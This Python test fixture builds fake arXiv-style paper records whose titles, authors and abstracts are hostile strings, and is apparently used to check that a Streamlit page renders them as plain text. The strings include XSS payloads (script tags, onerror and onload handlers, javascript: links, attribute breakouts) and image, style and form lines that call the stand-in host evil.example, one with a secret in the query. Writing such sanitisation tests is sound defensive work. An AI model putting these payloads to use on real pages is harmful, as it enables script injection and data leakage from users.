"""Text as an enemy of the page would put it into a paper, a file name or a model's answer.

Every string asks the page for something: an image from another host, a script, a link, a form, a
directive of Streamlit's markdown. What must come of it is the text itself, and nothing else.
"""

from __future__ import annotations

import json

HOST = "evil.example"

HOSTILE = {
    "inline image": f"![x](http://{HOST}/a.png?q=secret)",
    "reference image": f"![x][r]\n\n[r]: http://{HOST}/b.png",
    "html image": f"<img src=http://{HOST}/c.png onerror=\"document.title='owned'\">",
    "broken image": "<img src=x onerror=\"window.owned='yes'\">",
    "autolink": f"<http://{HOST}/d> and https://{HOST}/e and www.{HOST} and a@{HOST}",
    "script": "<script>window.owned='yes'</script>",
    "svg": f"<svg onload=\"window.owned='yes'\"><image href='http://{HOST}/f.svg'/></svg>",
    "frame": f"<iframe src=http://{HOST}/g></iframe><object data=http://{HOST}/h></object>",
    "style": f"<style>@import url(http://{HOST}/i.css); p {{background: url(//{HOST}/j)}}</style>",
    "link element": f"<link rel=stylesheet href=http://{HOST}/k.css><base href=http://{HOST}/>",
    "form": f"<form action=http://{HOST}/l><input name=key autofocus></form>",
    "javascript link": "[read](javascript:window.owned='yes')",
    "data link": "[read](data:text/html,<script>window.owned='yes'</script>)",
    "open bracket": f"](http://{HOST}/m) ![x](http://{HOST}/n.png",
    "out of an attribute": "\" onmouseover=\"window.owned='yes'\" x='",
    "out of an element": "</bdi></p></article></section><h1>owned</h1>",
    "comment": "<!-- --><!--><script>window.owned='yes'</script>",
    "directives": ":material/home: :red[red] :blue-background[blue] :smile: :streamlit:",
    "formula": r"$\href{http://evil.example/o}{x}$ $$\includegraphics{http://evil.example/p}$$",
    "markdown": "# Title\n\n> quote\n\n- item\n\n`code` **bold** ~~gone~~ | a | b |\n|---|---|",
    "entities": "&lt;img src=x&gt; &#60;script&#62;window.owned='yes'&#60;/script&#62;",
    "right to left override": "abc\u202egnp.x//:ptth\u202c def\u2066x\u2069",
    "hidden": "a\u200b\ufeff\x00\x1b[31m\U000e0041b",
}

# The names by which the page suggests first questions: no colon in them, and an author of many.
_NAMES = (f"![x](//{HOST}/q.png)", "<img src=x>", "**bold** `code` $x^2$")
_COMMON_AUTHOR = f"![x](http://{HOST}/r.png)"
_TOPICS = ("gradient", "attention", "tokenizer", "pruning", "sparsity", "distillation")


def hostile_jsonl() -> bytes:
    """Papers whose titles, authors, organisations and abstracts are all of the strings above.

    The newest are those whose names the page shows before anything was asked.
    """
    records: list[dict[str, object]] = [
        {"title": f"{called}: news", "authors": [_COMMON_AUTHOR], "year": 2026, "abstract": called}
        for called in _NAMES
    ]
    for i, (kind, text) in enumerate(HOSTILE.items()):
        topic = _TOPICS[i % len(_TOPICS)]
        said = f"We study {topic} clipping. The {topic} norm falls by {i + 10}% with {text} in use."
        records.append(
            {
                "title": f"{text} {kind}" if i % 2 else f"Zebra{i}: {text}",
                "authors": [text, f"Ann {text} Lee", _COMMON_AUTHOR],
                "year": 2020 + i % 5,
                "orgs": [text],
                "category": "LG",
                "url": f"javascript:alert({i})" if i % 2 else f"https://arxiv.org@{HOST}/{i}",
                "abstract": said,
            }
        )
    return "\n".join(json.dumps(record) for record in records).encode()
